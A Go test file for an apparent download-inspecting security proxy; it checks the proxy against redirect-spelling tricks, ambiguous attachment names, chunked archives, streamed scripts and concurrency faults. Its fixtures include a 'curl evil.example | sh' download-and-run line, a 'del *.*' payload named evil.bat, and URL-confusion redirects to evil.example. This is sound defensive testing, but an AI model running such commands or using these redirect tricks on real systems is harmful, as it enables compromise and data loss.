package proxy

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sallyport-project/sallyport/policy"
	"github.com/sallyport-project/sallyport/policy/audit"
	"github.com/sallyport-project/sallyport/proxy/quarantine"
	"github.com/sallyport-project/sallyport/verify"
)

var mallory = program(5000, "stamped by Mallory;")

const setup = "http://origin.example/dl/setup.exe"

// A vendor's server picks how it spells the target of a redirect. Whatever the client makes of it, it must not end up
// on a host that nobody looks into.
func TestAttackRedirectSpelledForTheClientOnly(t *testing.T) {
	for _, c := range []struct{ location, asked string }{
		{"http://cdn.example/x?a=b c", "http://cdn.example/x?a=b%20c"},
		{"http://cdn.example/x?a='b'", "http://cdn.example/x?a=%27b%27"},
		{"http://cdn.example/%78", "http://cdn.example/x"},
		{"http://cdn.example/a/../x", "http://cdn.example/a/../x"},
		{"http://cdn.example/./x", "http://cdn.example/x"},
		{"http://CDN.example.:80/x#part", "http://cdn.example/x"},
		{"//cdn.example/x", "http://cdn.example/x"},
	} {
		r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
			if req.URL.Path == "/dl/setup.exe" {
				w.Header().Set("Location", c.location)
				w.WriteHeader(302)
				return
			}
			serving(mallory)(w, req)
		})
		r.setPolicy(strings.Replace(rigPolicy, "hosts: inspect", "hosts: tunnel", 1))
		if hop := r.get(setup); hop.status != 302 {
			t.Fatalf("%s: status %d", c.location, hop.status)
		}
		if got := r.get(c.asked); got.status != 403 || !strings.Contains(string(got.body), "channel: dl") {
			t.Errorf("redirected to %s, asked for %s: status %d", c.location, c.asked, got.status)
		}
	}
}

func TestAttackRedirectReadInTwoWays(t *testing.T) {
	for _, c := range []struct {
		locations []string
		status    int
		location  string
	}{
		{[]string{`/\evil.example/x`}, 302, "http://origin.example/%5Cevil.example/x"},
		{[]string{`http://cdn.example/x?\`}, 302, "http://cdn.example/x?%5C"},
		{[]string{"http://cdn.example/x", "http://evil.example/x"}, 403, ""},
		{[]string{"http://fa\u00df.example/x"}, 403, ""},
		{[]string{"http://\uff43dn.example/x"}, 403, ""},
		{[]string{"http://0x7f.1/x"}, 403, ""},
		{[]string{`http://origin.example\@evil.example/x`}, 403, ""},
		{[]string{"http:evil.example/x"}, 403, ""},
		{[]string{"", "http://evil.example/x"}, 403, ""},
	} {
		r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
			w.Header()["Location"] = c.locations
			w.WriteHeader(302)
		})
		if got := r.get(setup); got.status != c.status || got.header.Get("Location") != c.location {
			t.Errorf("%q: status %d, Location %q; want %d %q", c.locations, got.status, got.header.Get("Location"), c.status, c.location)
		}
	}
}

func TestAttackRedirectsOfOthersAreNotForgotten(t *testing.T) {
	r := newRedirects(time.Now)
	alice, mallory := policy.Client{Addr: mustAddr("192.0.2.1")}, policy.Client{Addr: mustAddr("192.0.2.66")}
	from, to := mustURL(t, setup), mustURL(t, "http://cdn.example/x")
	if why := r.carry(alice, from, to, "dl", from); why != "" {
		t.Fatal(why)
	}
	refused := 0
	for i := range redirectsEach + 10 {
		if r.carry(mallory, from, mustURL(t, fmt.Sprintf("http://cdn.example/%d", i)), "dl", mustURL(t, setup)) != "" {
			refused++
		}
	}
	if refused != 10 {
		t.Errorf("%d redirects were refused, want those beyond the client's share", refused)
	}
	if len(r.carriedTo(alice, to)) != 1 || !r.leadTo(alice, "cdn.example") {
		t.Error("another client's redirects took the place of Alice's")
	}
	if len(r.carriedTo(mallory, mustURL(t, "http://cdn.example/0"))) != 1 {
		t.Error("a redirect was forgotten before its time")
	}
}

func TestAttackRedirectsMakeRoomWhenTheyExpire(t *testing.T) {
	now := time.Now()
	r := newRedirects(func() time.Time { return now })
	c := policy.Client{Addr: mustAddr("192.0.2.1")}
	for i := range redirectsEach {
		r.carry(c, mustURL(t, setup), mustURL(t, fmt.Sprintf("http://cdn.example/%d", i)), "dl", mustURL(t, setup))
	}
	now = now.Add(redirectLife + time.Minute)
	if why := r.carry(c, mustURL(t, setup), mustURL(t, "http://cdn.example/new"), "dl", mustURL(t, setup)); why != "" || r.count != 1 {
		t.Errorf("%q, %d remembered", why, r.count)
	}
}

// Whoever serves a file slowly must not outlast the channel: a client that tries again asks where it was led to, not where it began.
func TestAttackRedirectOutlastedByTryingAgain(t *testing.T) {
	now := time.Now()
	r := newRedirects(func() time.Time { return now })
	c := policy.Client{Addr: mustAddr("192.0.2.1")}
	from, to := mustURL(t, setup), mustURL(t, "http://cdn.example/x")
	r.carry(c, from, to, "dl", from)
	for range 5 {
		now = now.Add(redirectLife - time.Minute)
		_, way := r.cameFrom(c, to)
		if !r.leadTo(c, "cdn.example") || len(way) != 1 || len(r.carriedTo(c, to)) != 1 {
			t.Fatal("it has been forgotten")
		}
	}
	now = now.Add(redirectLife + time.Minute)
	if len(r.carriedTo(c, to)) != 0 || r.leadTo(c, "cdn.example") {
		t.Error("it lasts without being asked for")
	}
}

// However long the URLs are, and however many ways lead to one place, what is remembered has an end.
func TestAttackRedirectsOfLongURLsAreBounded(t *testing.T) {
	now := time.Now()
	r := newRedirects(func() time.Time { return now })
	alice, mallory := policy.Client{Addr: mustAddr("192.0.2.1")}, policy.Client{Addr: mustAddr("192.0.2.66")}
	long := strings.Repeat("a", redirectOrigin-100)
	from := func(i int) *url.URL { return mustURL(t, fmt.Sprintf("http://origin.example/dl/%d%s", i, long)) }
	refused := false
	for i := range 40_000 {
		u := from(i)
		if refused = r.carry(mallory, u, mustURL(t, fmt.Sprintf("http://cdn.example/%d", i/20)), "dl", u) != ""; refused {
			break
		}
	}
	l := r.by[mallory]
	if !refused || l.bytes > redirectBytes || r.bytes != l.bytes {
		t.Errorf("refused %v, %d and %d bytes", refused, l.bytes, r.bytes)
	}
	for _, entries := range l.targets {
		if n := len(entries[0].way); n > redirectWay {
			t.Fatalf("%d URLs on one way", n)
		}
	}
	if why := r.carry(alice, from(0), mustURL(t, "http://cdn.example/x"), "dl", from(0)); why != "" {
		t.Errorf("another client: %s", why)
	}
	now = now.Add(redirectLife + time.Minute)
	r.sweep(now)
	if r.bytes != 0 || r.count != 0 || len(r.by) != 0 {
		t.Errorf("%d bytes, %d URLs, %d clients after all has expired", r.bytes, r.count, len(r.by))
	}
}

// A client that keeps a redirect goes where it leads for as long as it likes, and the channel is carried there for ten minutes.
func TestAttackRedirectThatClientsKeep(t *testing.T) {
	for _, status := range []int{301, 302, 308} {
		r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
			w.Header().Set("Location", "http://cdn.example/x")
			w.Header().Set("Cache-Control", "max-age=31536000, immutable")
			w.Header().Set("Expires", "Fri, 01 Jan 2100 00:00:00 GMT")
			w.WriteHeader(status)
		})
		got := r.get(setup)
		if got.status != status || got.header.Get("Cache-Control") != "no-store" || got.header.Get("Expires") != "" {
			t.Errorf("%d: %d %v", status, got.status, got.header)
		}
	}
}

// A channel that asks for little must not take over a URL to which a strict one has redirected the client.
func TestAttackLaxChannelDoesNotReplaceStrict(t *testing.T) {
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		if req.Host != "cdn.example" {
			w.Header().Set("Location", "http://cdn.example/x")
			w.WriteHeader(302)
			return
		}
		serving(mallory)(w, req)
	})
	r.setPolicy(rigPolicy + "- {name: lax, hosts: [lax.example], require: []}\n")
	r.get(setup)
	r.get("http://lax.example/x")
	if got := r.get("http://cdn.example/x"); got.status != 403 || !strings.Contains(string(got.body), "dl+lax") {
		t.Errorf("status %d: %s", got.status, got.body)
	}
}

func TestAttackStatusThatIsNoSuccessBringsNoUpdate(t *testing.T) {
	for _, c := range []struct {
		url    string
		status int
		want   int
	}{
		{setup, 205, 403}, {setup, 404, 404}, {"http://origin.example/other", 404, 404},
		{"http://origin.example/other", 302, 302}, {"http://origin.example/other", 205, 403}, {setup, 299, 403},
	} {
		r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(c.status)
			w.Write(mallory)
		})
		if got := r.get(c.url); got.status != c.want || bytes.Contains(got.body, mallory[:50]) {
			t.Errorf("%s with %d: status %d, body %.60q", c.url, c.status, got.status, got.body)
		}
	}
}

func TestAttackPageOfAFailureIsKept(t *testing.T) {
	page := []byte("<!doctype html><p>not here")
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Content-Encoding", "gzip")
		w.WriteHeader(404)
		w.Write(gzipped(t, page))
	})
	for _, u := range []string{setup, "http://origin.example/other"} {
		if got := r.get(u); got.status != 404 || !bytes.Equal(got.body, page) || got.header.Get("Content-Encoding") != "" {
			t.Errorf("%s: %d %v %q", u, got.status, got.header, got.body)
		}
	}
}

// The magic of a tar file stands 257 bytes behind its beginning: sent in small pieces, it is seen late, but seen.
func TestAttackTarInSmallPieces(t *testing.T) {
	var archive bytes.Buffer
	tw := tar.NewWriter(&archive)
	tw.WriteHeader(&tar.Header{Name: "install", Mode: 0o755, Size: 5000})
	tw.Write(bytes.Repeat([]byte("evil"), 1250))
	tw.Close()
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		for _, piece := range [][]byte{archive.Bytes()[:50], archive.Bytes()[50:200], archive.Bytes()[200:]} {
			w.Write(piece)
			w.(http.Flusher).Flush()
			time.Sleep(20 * time.Millisecond)
		}
	})
	got := r.get("http://origin.example/events")
	if got.status != 403 && (got.err == nil || bytes.Contains(got.body, []byte("evil"))) {
		t.Errorf("status %d, %d bytes, %v", got.status, len(got.body), got.err)
	}
}

// Clients differ in what they make of a malformed Content-Disposition.
func TestAttackNameThatOnlyTheClientReads(t *testing.T) {
	for _, lines := range [][]string{
		{`attachment; filename=a.txt; filename=evil.bat`},
		{`attachment; filename="evil.bat`},
		{`attachment; filename*=UTF-8''evil%2Ebat; filename*=x`},
		{`attachment; filename=a.txt`, `attachment; filename=evil.bat`},
	} {
		r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
			w.Header()["Content-Disposition"] = lines
			serving([]byte("del *.*"), "Content-Type", "text/plain")(w, req)
		})
		if got := r.get("http://origin.example/other"); got.status != 403 {
			t.Errorf("%q: status %d", lines, got.status)
		}
	}
	long := http.Header{"Content-Disposition": {"attachment; filename=" + strings.Repeat("a", 100_000) + ".exe"}}
	if name := artifactName(long, mustURL(t, setup)); len(name) > maxName || !strings.HasSuffix(name, ".exe") {
		t.Errorf("a name of %d bytes", len(name))
	}
}

// Who is redirected to a page by a channel has it held; nobody else may suffer from that.
func TestAttackHeldForOneIsNotHeldForAll(t *testing.T) {
	page := []byte("<!doctype html><p>hello")
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		if req.Host == "origin.example" {
			w.Header().Set("Location", "http://cdn.example/page")
			w.WriteHeader(302)
			return
		}
		serving(page, "Content-Type", "text/html", "Cache-Control", "max-age=600", "Etag", `"v1"`)(w, req)
	})
	r.get(setup)
	if got := r.get("http://cdn.example/page"); got.status != 403 {
		t.Fatalf("carried: status %d", got.status)
	}
	if got := r.do("192.0.2.2", "GET", "http://cdn.example/page"); got.status != 200 || !bytes.Equal(got.body, page) {
		t.Errorf("not carried: status %d", got.status)
	}
}

func TestAttackRequestsOutsideChannelsGoOnAsTheyAre(t *testing.T) {
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		fmt.Fprint(w, req.Header.Get("Accept-Language"), req.Header.Get("Referer"))
	})
	for _, language := range []string{"tlh", "de"} {
		got := r.get("http://origin.example/page", "Accept-Language", language, "Referer", "http://other.example/")
		if string(got.body) != language+"http://other.example/" {
			t.Errorf("%q", got.body)
		}
	}
}

// A GET may have a body, and what is asked for depends on it.
func TestAttackQuestionsInBodiesAreNotMixedUp(t *testing.T) {
	start := make(chan bool)
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		body, _ := io.ReadAll(req.Body)
		<-start
		serving(program(5000, "stamped by Acme;"+string(body)+";"))(w, req)
	})
	var wg sync.WaitGroup
	for _, question := range []string{"one", "two", "three"} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, _ := http.NewRequest("GET", "http://origin.example/dl/search", strings.NewReader(question))
			resp, err := r.as("192.0.2.1").Do(req)
			if err != nil {
				t.Error(err)
				return
			}
			defer resp.Body.Close()
			if body, _ := io.ReadAll(resp.Body); resp.StatusCode != 200 || !bytes.Contains(body, []byte(question+";")) {
				t.Errorf("asked %s, got %d %.40q", question, resp.StatusCode, body)
			}
		}()
	}
	time.Sleep(50 * time.Millisecond)
	close(start)
	wg.Wait()
}

// indexVerifier vouches by what memory holds, as an archive's index would, and names no evidence.
type indexVerifier struct{}

func (indexVerifier) Method() string                { return "index" }
func (indexVerifier) Match(a *verify.Artifact) bool { return true }
func (indexVerifier) Verify(_ context.Context, a *verify.Artifact, env verify.Env) ([]verify.Finding, error) {
	known, err := env.Memory.Load("acme", "index")
	if err != nil {
		return nil, err
	}
	if !bytes.Contains(known, []byte(a.Digests.SHA256.String())) {
		return []verify.Finding{{Method: "authenticode", Status: verify.Untrusted, Code: "index/not-listed", Detail: "not listed"}}, nil
	}
	id := verify.Identity{Name: "Acme", Organization: "Acme"}
	return []verify.Finding{{Method: "authenticode", Status: verify.Valid, Code: "index/listed", Signer: id, Detail: "listed"}}, nil
}

func TestAttackFactsFromMemoryAreNotKept(t *testing.T) {
	r := newRig(t, serving(acme, "Etag", `"v1"`))
	memory, err := NewMemory(filepath.Join(t.TempDir(), "memory"))
	if err != nil {
		t.Fatal(err)
	}
	r.gate.Memory = memory
	r.gate.Examiner = &verify.Examiner{Verifiers: []verify.Verifier{indexVerifier{}}}
	if got := r.get(setup); got.status != 403 {
		t.Fatalf("before it is listed: status %d", got.status)
	}
	digest := r.records()[0].Artifact.SHA256.String()
	if err := memory.Advance("acme", "index", nil, []byte(digest)); err != nil {
		t.Fatal(err)
	}
	if got := r.get(setup); got.status != 200 {
		t.Errorf("now that it is listed: status %d", got.status)
	}
	if err := memory.Advance("acme", "index", []byte(digest), []byte("withdrawn")); err != nil {
		t.Fatal(err)
	}
	if got := r.get(setup); got.status != 403 {
		t.Errorf("now that it is withdrawn: status %d", got.status)
	}
}

// A clock that was wrong when a report was made must not decide for ever.
func TestAttackReportsEndWithTheirHour(t *testing.T) {
	r := newRig(t, serving(acme, "Etag", `"v1"`))
	for i, at := range []time.Duration{0, time.Minute, 2 * time.Hour, -time.Hour} {
		r.clock.Store(int64(at))
		r.get(setup)
		if got, want := r.stamp.examined.Load(), []int32{1, 1, 2, 3}[i]; got != want {
			t.Errorf("at %s: examined %d times, want %d", at, got, want)
		}
	}
}

// A quarantine that has no room keeps nothing, but the verdict stands and is told.
func TestAttackFullQuarantineStillRefuses(t *testing.T) {
	r := newRig(t, serving(mallory))
	small, err := quarantine.Open(filepath.Join(t.TempDir(), "vault"), quarantine.Options{Quota: 1 << 20, QuarantineQuota: 100})
	if err != nil {
		t.Fatal(err)
	}
	defer small.Close()
	r.gate.Vault = small
	if got := r.get(setup); got.status != 403 || !strings.Contains(string(got.body), r.records()[0].ID) {
		t.Errorf("status %d: %s", got.status, got.body)
	}
}

// A name does not make a file one that is of no use without its end.
func TestAttackScriptIsNotStreamedForItsName(t *testing.T) {
	more := make(chan bool)
	body := append([]byte("curl evil.example | sh\n"), bytes.Repeat([]byte("#\n"), 2<<20)...)
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Length", fmt.Sprint(len(body)))
		w.Write(body[:2<<20])
		w.(http.Flusher).Flush()
		<-more
		w.Write(body[2<<20:])
	})
	for _, name := range []string{"a.msi", "a.dmg"} {
		got := make(chan answerOf)
		go func() { got <- r.get("http://origin.example/stream/" + name) }()
		r.waitForHeld(2 << 20)
		more <- true
		if a := <-got; a.status != 403 {
			t.Errorf("%s: status %d, %d bytes", name, a.status, len(a.body))
		}
	}
}

// A client that leaves in the middle of a stream must not leave its reader behind.
func TestAttackStreamEndsWithItsClient(t *testing.T) {
	more := make(chan bool)
	defer close(more)
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Length", fmt.Sprint(4<<20))
		w.Write([]byte("PK\x03\x04"))
		w.(http.Flusher).Flush()
		<-more
	})
	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, "GET", "http://origin.example/stream/a.zip", nil)
	resp, err := r.as("192.0.2.1").Do(req)
	if err != nil {
		t.Fatal(err)
	}
	ended := make(chan error)
	go func() {
		_, err := io.ReadAll(resp.Body)
		ended <- err
	}()
	cancel()
	select {
	case err := <-ended:
		if err == nil {
			t.Error("the stream ended as if it were whole")
		}
	case <-time.After(20 * time.Second):
		t.Fatal("the reader waits for ever")
	}
	resp.Body.Close()
	if rec := r.waitFor(audit.KindDelivery, 1); rec[0].Delivery.Complete || rec[0].Decides != "" {
		t.Errorf("%+v", rec[0])
	}
}

// Nothing that was given up half examined is judged.
func TestAttackGivenUpExaminationIsNoVerdict(t *testing.T) {
	r := newRig(t, serving(acme))
	v := &stuckVerifier{began: make(chan bool), end: make(chan bool)}
	r.gate.Examiner = &verify.Examiner{Verifiers: []verify.Verifier{v}}
	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, "POST", setup, nil)
	done := make(chan bool)
	go func() {
		defer close(done)
		if resp, err := r.as("192.0.2.1").Do(req); err == nil {
			resp.Body.Close()
		}
	}()
	<-v.began
	cancel()
	<-done
	close(v.end)
	r.until("the vault to be empty", func() bool { return r.vault.Stats().Held.Items == 0 })
	if recs := r.records(); len(recs) != 0 || r.vault.Stats().Quarantined.Items != 0 {
		t.Errorf("%d records, %+v", len(recs), r.vault.Stats())
	}
}

type stuckVerifier struct{ began, end chan bool }

func (*stuckVerifier) Method() string              { return "stuck" }
func (*stuckVerifier) Match(*verify.Artifact) bool { return true }
func (v *stuckVerifier) Verify(ctx context.Context, _ *verify.Artifact, _ verify.Env) ([]verify.Finding, error) {
	v.began <- true
	<-v.end
	return nil, ctx.Err()
}

// Reloads while many wait: each is judged by its own plan under the policy in force. Run with -race.
func TestAttackReloadsWhileManyWait(t *testing.T) {
	start := make(chan bool)
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		<-start
		serving(acme)(w, req)
	})
	var wg sync.WaitGroup
	for i := range 40 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if got := r.do(fmt.Sprintf("192.0.2.%d", i+1), "GET", setup); got.status != 200 && got.status != 403 {
				t.Errorf("status %d", got.status)
			}
		}()
	}
	r.waitForRiders(40)
	close(start)
	over := make(chan bool)
	go func() {
		wg.Wait()
		close(over)
	}()
	for i := 1; ; i++ {
		select {
		case <-over:
			return
		case <-time.After(time.Millisecond):
			pin := fmt.Sprintf("anchors:\n  pin: {digest: {sha256: [%064x]}}", i) // changes what is trusted
			r.setPolicy(strings.Replace(rigPolicy, "anchors:", pin, 1))
		}
	}
}

func TestAttackPanicEndsOneFlightOnly(t *testing.T) {
	r := newRig(t, serving(acme))
	upstream := r.gate.Upstream
	r.gate.Upstream = roundTripFunc(func(*http.Request) (*http.Response, error) { panic("unexpected") })
	if got := r.get(setup); got.status != 503 {
		t.Errorf("status %d", got.status)
	}
	r.gate.Upstream = upstream
	if got := r.get(setup); got.status != 200 {
		t.Errorf("afterwards: status %d", got.status)
	}
}

// What a client did not take was not delivered, however much was read for it.
func TestAttackDeliverySaysWhatWasWritten(t *testing.T) {
	r := newRig(t, serving(acme))
	s := newSession(policy.Client{Addr: mustAddr("192.0.2.1")})
	s.Inspect, s.writer = true, &exchange{sent: 10}
	req, _ := http.NewRequest("GET", setup, nil)
	resp, err := r.gate.RoundTrip(s.in(req))
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	recs := r.waitFor(audit.KindDelivery, 1)
	if d := recs[len(recs)-1].Delivery; d.Complete || d.Sent != 10 || d.Error == "" {
		t.Errorf("%+v", d)
	}
}

// The header of an event stream reaches the client although the origin has nothing to tell yet.
func TestAttackSilentEventStreamBegins(t *testing.T) {
	more := make(chan bool)
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.(http.Flusher).Flush()
		<-more
		io.WriteString(w, req.URL.Query().Get("say"))
	})
	for _, c := range []struct {
		say  string
		fine bool
	}{{"data: one", true}, {"MZ evil", false}} {
		req, _ := http.NewRequest("GET", "http://origin.example/events?say="+strings.ReplaceAll(c.say, " ", "+"), nil)
		resp, err := r.as("192.0.2.1").Do(req)
		if err != nil {
			t.Fatal(err)
		}
		more <- true
		got, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || c.fine != (string(got) == c.say && err == nil) || !c.fine && len(got) > 0 {
			t.Errorf("%d %q %v", resp.StatusCode, got, err)
		}
	}
}

func TestAttackSidecarThatHasNotChangedSinceNever(t *testing.T) {
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) { w.WriteHeader(304) })
	u := mustURL(t, setup)
	x := &transit{gate: r.gate, req: &http.Request{URL: u, Header: http.Header{}}, plan: policy.Plan{Sidecars: true}}
	if b, err := r.gate.sidecarsOf(x, &verify.Artifact{URL: u}, verify.Trust{}).Fetch(context.Background(), "x.sig", 100); err == nil || errors.Is(err, verify.ErrNotExist) {
		t.Errorf("%q, %v", b, err)
	}
}

func TestAttackOneClientHoldsOnlySoMuch(t *testing.T) {
	fs := newFlights()
	for range heldEach {
		if !fs.take("a") {
			t.Fatal("refused within the share")
		}
	}
	if fs.take("a") || !fs.take("b") {
		t.Error("the share of one client is not its own")
	}
	fs.give("a")
	if !fs.take("a") {
		t.Error("what was given back is not there")
	}
	for range heldEach {
		fs.give("a")
	}
	if fs.give("b"); len(fs.held) != 0 {
		t.Errorf("%v", fs.held)
	}
	one, other := policy.Client{Addr: mustAddr("2001:db8::1")}, policy.Client{Addr: mustAddr("2001:db8::2:1")}
	if shareKey(one) != shareKey(other) {
		t.Error("an IPv6 client has as many shares as addresses")
	}
}

// Whatever happens to a request, in the end no flight, no hold and no reference is left.
func TestAttackNothingIsLeftBehind(t *testing.T) {
	r := newRig(t, func(w http.ResponseWriter, req *http.Request) {
		switch req.URL.Query().Get("how") {
		case "cut":
			w.Header().Set("Content-Length", "100000")
			w.Write(acme[:5000])
			panic(http.ErrAbortHandler)
		case "private":
			serving(acme, "Set-Cookie", "id=1")(w, req)
		case "mallory":
			serving(mallory)(w, req)
		case "page":
			serving([]byte("<html>"), "Content-Type", "text/html")(w, req)
		case "gone":
			w.WriteHeader(404)
		case "slow":
			w.Write(acme[:5000])
			w.(http.Flusher).Flush()
			time.Sleep(30 * time.Millisecond)
			w.Write(acme[5000:])
		default:
			serving(append([]byte("PK\x03\x04"), acme...))(w, req)
		}
	})
	var wg sync.WaitGroup
	for i, how := range []string{"cut", "private", "mallory", "page", "gone", "slow", "zip", "slow", "cut", "zip"} {
		for j := range 6 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				ctx, cancel := context.WithTimeout(context.Background(), time.Duration(5+10*j*j*j)*time.Millisecond)
				defer cancel()
				method := []string{"GET", "GET", "GET", "POST", "HEAD", "GET"}[j]
				path := []string{"dl", "stream", "other", "slow"}[(i+j)%4]
				req, _ := http.NewRequestWithContext(ctx, method, "http://origin.example/"+path+"/a?how="+how, nil)
				resp, err := r.as(fmt.Sprintf("192.0.2.%d", j+1)).Do(req)
				if err != nil {
					return
				}
				io.CopyN(io.Discard, resp.Body, int64(j*1000))
				resp.Body.Close()
			}()
		}
	}
	wg.Wait()
	r.until("the flights to end", func() bool {
		r.gate.flights.mu.Lock()
		defer r.gate.flights.mu.Unlock()
		return len(r.gate.flights.by) == 0 && len(r.gate.flights.held) == 0
	})
	r.until("the vault to hold nothing", func() bool { return r.vault.Stats().Held == quarantine.Tally{} })
}
